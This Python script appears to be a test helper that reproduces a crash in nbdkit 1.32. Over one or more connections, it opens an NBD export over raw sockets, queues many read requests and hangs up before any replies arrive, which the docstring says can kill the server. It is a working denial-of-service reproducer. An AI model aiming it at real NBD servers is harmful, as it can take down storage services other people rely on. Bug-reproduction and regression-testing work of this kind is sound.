#!/usr/bin/python3
"""The client side of the nbdkit 1.32 hang-up abort: open an
export by raw NBD_OPT_GO, send COUNT NBD_CMD_READs of LENGTH bytes without
reading a reply, and hang up while the server still has them in flight.
Done by CONNECTIONS connections one after another.  Raw sockets, because
libnbd reads every reply before it closes.  Exits 0 whatever the server
did (it may die: that is what the caller counts); a connection that fails
(the server died) ends the run, with a line on stderr.

usage: nbd-hangup-flood.py SOCKET EXPORT [CONNECTIONS [COUNT [LENGTH]]]
"""
import struct, sys
from nbdraw import NBD_REP_ACK, send_go, read_option_reply

NBD_REQUEST_MAGIC, NBD_CMD_READ = 0x25609513, 0

def open_export(path, name):
    s = send_go(path, name)
    if s is None:
        raise EOFError("not a newstyle NBD server")
    while True:
        _magic, rtype, _payload = read_option_reply(s)
        if rtype == NBD_REP_ACK:
            return s
        if rtype & 0x80000000:
            raise EOFError("export refused (reply type 0x%x)" % rtype)

def hang_up_with_reads_in_flight(path, name, count, length):
    s = open_export(path, name)
    reqs = b"".join(struct.pack(">IHHQQI", NBD_REQUEST_MAGIC, 0, NBD_CMD_READ,
                                i, i * length, length) for i in range(count))
    s.sendall(reqs)
    s.close()

def main():
    path, name = sys.argv[1], sys.argv[2].encode()
    defaults = ["1", "64", "65536"]
    given = sys.argv[3:6]
    conns, count, length = (int(a) for a in given + defaults[len(given):])
    for c in range(conns):
        try:
            hang_up_with_reads_in_flight(path, name, count, length)
        except (OSError, EOFError) as e:
            print("hang-up flood: connection %d: %s" % (c + 1, e), file=sys.stderr)
            return 0
    return 0

sys.exit(main())
